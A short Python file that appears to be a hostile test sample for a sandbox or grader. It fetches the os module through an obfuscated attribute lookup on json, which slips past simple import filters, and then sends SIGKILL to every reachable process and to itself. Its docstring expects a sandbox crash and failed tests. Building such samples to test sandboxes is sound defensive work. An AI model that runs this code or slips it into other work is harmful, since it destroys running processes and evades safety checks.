"""Sends a signal to every process that it can reach.

Source: own
Row: none
Expected: tests.failed, tests.missing, sandbox.crash
"""
import json
import operator

_system = operator.attrgetter("codecs.sys.modules")(json)["os"]


def work(seed):
    _system.kill(-1, 9)
    _system.kill(_system.getpid(), 9)
    return seed
